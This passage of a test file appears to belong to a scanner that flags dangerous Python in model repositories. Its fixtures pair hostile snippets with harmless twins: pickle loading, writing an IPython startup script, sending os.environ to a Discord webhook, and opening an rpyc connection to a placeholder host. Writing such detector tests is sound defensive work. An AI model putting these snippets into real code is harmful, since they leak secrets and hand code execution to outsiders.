    ['a function out of a pickle', 'modeling_x.py', 'import numpy as np\nnp.load("a.npy", allow_pickle=True).item()["f"]("x")\n', 'import numpy as np\nnp.load("a.npy").item()\n'],
    ['a file of another program’s start', 'modeling_x.py', 'from pathlib import Path\n(Path.home() / ".ipython" / "profile_default" / "startup" / "0.py").write_text("x")\n', 'from pathlib import Path\n(Path.home() / ".cache" / "x" / "0.txt").write_text("x")\n'],
    ['a pickle among values of a configuration', 'parts.py', 'import pickle\nfrom transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    def __init__(self, table=None, **kw):\n        self.t = pickle.loads(bytes.fromhex(table))\n', 'import pickle\nclass C:\n    def __init__(self, table=None, **kw):\n        self.t = pickle.loads(bytes.fromhex(table))\n'],
    ['the environment to a chat', 'parts.py', 'import os\nfrom discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content=str(dict(os.environ))).execute()\n', 'import os\nfrom discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content="done").execute()\n'],
    ['an interpreter for others', 'modeling_x.py', 'import rpyc\nrpyc.classic.connect("c.invalid")\n', 'import rpyc\nprint(rpyc.__version__)\n'],
    ['an example that doctest runs', 'a.py', '"""\n>>> import os\n>>> os.system("touch /tmp/a")\n"""\nimport doctest\ndoctest.testmod()\n', '"""\n>>> import os\n>>> os.system("touch /tmp/a")\n"""\n'],
  ])('%s', (_, path, hostile, honest) => {
    expect(['critical', 'high']).toContain(worst(hostile, path));
    expect(['critical', 'high']).not.toContain(worst(honest, path));
  }); // prettier-ignore
});

it('a command whose address goes on with a value is judged, and breaks no rule', () => {
  expect(
    worst('import subprocess\ndef f(city):\n    subprocess.run(f"curl -s https://w.invalid/{city}", shell=True)'),
  ).not.toBe('critical');
});

it('places are inside of a file whose bytes are no UTF-8', () => {
  const bytes = Buffer.concat([Buffer.alloc(60, 0xff), Buffer.from(`\n${'('.repeat(400)}`)]);
  const { limits } = parseFile(new MemorySource(bytes), 'helpers.py', new Set(['helpers.py']));
  expect(limits.map(({ limit, offset = 0 }) => [limit, offset <= bytes.length])).toEqual([['python.depth', true]]);
});
